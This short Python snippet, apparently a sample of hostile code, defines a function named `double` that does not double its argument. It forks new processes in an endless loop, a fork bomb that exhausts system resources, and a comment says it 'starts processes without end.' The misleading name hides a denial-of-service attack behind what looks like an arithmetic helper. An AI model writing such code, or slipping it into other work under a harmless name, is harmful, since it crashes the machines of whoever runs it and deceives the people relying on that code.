# Starts processes without end.
# %% double
import os


def double(x):
    while True:
        os.fork()
